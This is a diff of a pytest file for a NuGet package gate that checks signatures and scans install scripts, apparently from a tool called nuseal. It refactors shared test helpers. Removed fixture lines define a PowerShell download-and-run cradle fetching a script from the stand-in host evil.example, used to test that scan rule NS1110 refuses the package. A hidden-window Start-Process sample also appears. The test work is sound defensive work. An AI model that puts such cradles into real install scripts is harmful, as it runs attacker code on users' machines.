@@ -3,14 +3,11 @@ nuget.config, a source's repository signature info, and the refusal messages."""
 
 from __future__ import annotations
 
-import io
-import zipfile
 from pathlib import Path
 
 import pytest
 
 from nuseal.client.gate import (
-    GateSettings,
     RepositorySignatureInfo,
     check,
     client_policy,
@@ -22,39 +19,13 @@ from nuseal.package import PackageArchive
 from nuseal.scan.model import Severity
 from nuseal.signature import PrimarySignature
 from nuseal.trust import RevocationMode, SignatureValidationMode, fingerprint, parse_nuget_config
-from nuseal.verify import AllowListEntry, SignaturePlacement, VerificationPolicy, VerificationTarget
+from nuseal.verify import AllowListEntry, SignaturePlacement, VerificationTarget
 
-SHARED = Path(__file__).resolve().parents[3] / "shared"
-CODESIGN = str(SHARED / "trust" / "codesignctl.pem")
-TIMESTAMP = str(SHARED / "trust" / "timestampctl.pem")
+from .gate_support import CRADLE, SHARED, SOURCE, gate_settings, make_nupkg
+
 RESTSHARP = SHARED / "vectors" / "nuget.org" / "RestSharp.106.11.4.nupkg"
-SOURCE = "https://feed.example/v3/index.json"
-#: A download-and-run cradle in an install script (scan rule NS1110, an error).
-CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"
 
 
-def make_nupkg(package_id: str, version: str = "1.0.0", files: dict[str, str] | None = None) -> bytes:
-    nuspec = (
-        '<?xml version="1.0" encoding="utf-8"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/'
-        f'nuspec.xsd"><metadata><id>{package_id}</id><version>{version}</version><authors>t</authors>'
-        "<description>a package built by the gate tests</description></metadata></package>"
-    )
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
-        z.writestr(f"{package_id}.nuspec", nuspec)
-        for name, text in (files or {}).items():
-            z.writestr(name, text)
-    return buf.getvalue()
-
-
-def settings(**changes: object) -> GateSettings:
-    base: dict[str, object] = {
-        "policy": VerificationPolicy.accept(revocation_mode=RevocationMode.OFFLINE),
-        "code_signing_roots": CODESIGN,
-        "timestamping_roots": TIMESTAMP,
-    }
-    base.update(changes)
-    return GateSettings(**base)  # type: ignore[arg-type]
 
 
 def write_toml(folder: Path, text: str) -> Path:
@@ -104,7 +75,7 @@ def test_bad_allow_list_names_the_file_and_the_problem(tmp_path: Path, text: str
 # ---------------------------------------------------------------------------------------------- scan verdict
 def test_download_and_run_init_ps1_refused_then_allowed(tmp_path: Path) -> None:
     data = make_nupkg("Evil.Lib", "1.0.0", {"tools/init.ps1": CRADLE})
-    refused = check(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=settings())
+    refused = check(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=gate_settings())
     assert refused.refused and refused.verification.valid
     assert refused.rule_id == "NS1110" and refused.code is None
     err = refused.error()
@@ -113,13 +84,14 @@ def test_download_and_run_init_ps1_refused_then_allowed(tmp_path: Path) -> None:
 
     other_rule = load_allow_list(write_toml(tmp_path, '[[scan.allow]]\nid = "Evil.Lib"\nrules = ["NS2001"]\n'))
     assert check(
-        data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=settings(allow=other_rule)
+        data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=gate_settings(allow=other_rule)
     ).refused
     other_id = load_allow_list(write_toml(tmp_path, '[[scan.allow]]\nid = "Good.Lib"\nrules = ["NS1110"]\n'))
-    assert check(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=settings(allow=other_id)).refused
+    other = gate_settings(allow=other_id)
+    assert check(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=other).refused
 
     allow = load_allow_list(write_toml(tmp_path, '[[scan.allow]]\nid = "evil.*"\nrules = ["NS1*"]\n'))
-    passed = check(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=settings(allow=allow))
+    passed = check(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=gate_settings(allow=allow))
     assert not passed.refused and passed.message == ""
     assert [f.rule_id for f in passed.allowed] == ["NS1110"]
 
@@ -127,13 +99,13 @@ def test_download_and_run_init_ps1_refused_then_allowed(tmp_path: Path) -> None:
 def test_block_on_threshold() -> None:
     # a hidden-window Start-Process in install.ps1 is a warning, not an error
     data = make_nupkg("Warn.Lib", "1.0.0", {"tools/install.ps1": "Start-Process calc.exe -WindowStyle Hidden\n"})
-    at_error = check(data, package_id="Warn.Lib", version="1.0.0", source=SOURCE, settings=settings())
+    at_error = check(data, package_id="Warn.Lib", version="1.0.0", source=SOURCE, settings=gate_settings())
     assert at_error.scan is not None
     worst = at_error.scan.max_severity
     assert worst is Severity.WARNING, [f.rule_id for f in at_error.scan.findings]
     assert not at_error.refused
     at_warning = check(
-        data, package_id="Warn.Lib", version="1.0.0", source=SOURCE, settings=settings(block_on=Severity.WARNING)
+        data, package_id="Warn.Lib", version="1.0.0", source=SOURCE, settings=gate_settings(block_on=Severity.WARNING)
     )
     assert at_warning.refused and at_warning.rule_id is not None
     assert "--block-on warning" in at_warning.message
@@ -141,21 +113,21 @@ def test_block_on_threshold() -> None:
 
 def test_scan_off_skips_the_scan() -> None:
     data = make_nupkg("Evil.Lib", "1.0.0", {"tools/init.ps1": CRADLE})
-    result = check(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=settings(scan=False))
+    result = check(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, settings=gate_settings(scan=False))
     assert not result.refused and result.scan is None
 
 
 def test_package_other_than_the_one_asked_for_is_refused() -> None:
     data = make_nupkg("Other.Lib", "2.0.0")
-    result = check(data, package_id="Wanted.Lib", version="1.0.0", source=SOURCE, settings=settings())
+    result = check(data, package_id="Wanted.Lib", version="1.0.0", source=SOURCE, settings=gate_settings())
     assert result.refused and result.problem is not None
     assert "Other.Lib 2.0.0" in result.message and "Wanted.Lib 1.0.0" in result.message
-    same = check(data, package_id="other.lib", version="2.0", source=SOURCE, settings=settings())
+    same = check(data, package_id="other.lib", version="2.0", source=SOURCE, settings=gate_settings())
     assert not same.refused
 
 
 def test_not_a_zip_is_refused_without_a_traceback() -> None:
-    result = check(b"not a zip", package_id="X", version="1.0.0", source=SOURCE, settings=settings())
+    result = check(b"not a zip", package_id="X", version="1.0.0", source=SOURCE, settings=gate_settings())
     assert result.refused and "Package 'X 1.0.0'" in result.message
 
 
@@ -177,7 +149,7 @@ def test_client_policy_from_nuget_config() -> None:
     )
     policy, issues = client_policy([config], revocation_mode=RevocationMode.OFFLINE)
     assert policy.name == "require" and not issues
-    ok = check(data, package_id="RestSharp", version="106.11.4", source=SOURCE, settings=settings(policy=policy))
+    ok = check(data, package_id="RestSharp", version="106.11.4", source=SOURCE, settings=gate_settings(policy=policy))
     assert not ok.refused, ok.message
     # an owner list that does not hold the package's owners: NU3034
     wrong = parse_nuget_config(
@@ -187,11 +159,15 @@ def test_client_policy_from_nuget_config() -> None:
         <owners>someone-else</owners></repository></trustedSigners></configuration>""".encode()
     )
     policy2, _ = client_policy([wrong], revocation_mode=RevocationMode.OFFLINE)
-    refused = check(data, package_id="RestSharp", version="106.11.4", source=SOURCE, settings=settings(policy=policy2))
+    refused = check(
+        data, package_id="RestSharp", version="106.11.4", source=SOURCE, settings=gate_settings(policy=policy2)
+    )
     assert refused.refused and refused.code is not None and refused.code.value == "NU3034"
     accept, _ = client_policy([wrong], mode=SignatureValidationMode.ACCEPT, revocation_mode=RevocationMode.OFFLINE)
     assert accept.name == "accept"
-    warned = check(data, package_id="RestSharp", version="106.11.4", source=SOURCE, settings=settings(policy=accept))
+    warned = check(
+        data, package_id="RestSharp", version="106.11.4", source=SOURCE, settings=gate_settings(policy=accept)
+    )
     assert not warned.refused and any(w.code is not None and w.code.value == "NU3034" for w in warned.warnings)
 
 
@@ -203,7 +179,7 @@ def test_repository_signatures_of_a_source() -> None:
         all_repository_signed=True,
         certificates=(AllowListEntry(fp, HashAlgorithm.SHA256, VerificationTarget.REPOSITORY, SignaturePlacement.ANY),),
     )
-    gate = settings(repository_signatures=((SOURCE, signed_source),))
+    gate = gate_settings(repository_signatures=((SOURCE, signed_source),))
     # accept mode lets unsigned packages in, except from a source that says all its packages are signed
     assert not check(unsigned, package_id="Plain.Lib", version="1.0.0", source="https://other/", settings=gate).refused
     refused = check(unsigned, package_id="Plain.Lib", version="1.0.0", source=SOURCE, settings=gate)
@@ -213,6 +189,6 @@ def test_repository_signatures_of_a_source() -> None:
         all_repository_signed=True,
         certificates=(AllowListEntry("AB" * 32, HashAlgorithm.SHA256, VerificationTarget.REPOSITORY),),
     )
-    gate2 = settings(repository_signatures=((SOURCE, other_cert),))
+    gate2 = gate_settings(repository_signatures=((SOURCE, other_cert),))
     wrong = check(data, package_id="RestSharp", version="106.11.4", source=SOURCE, settings=gate2)
     assert wrong.refused and wrong.code is not None and wrong.code.value == "NU3034"
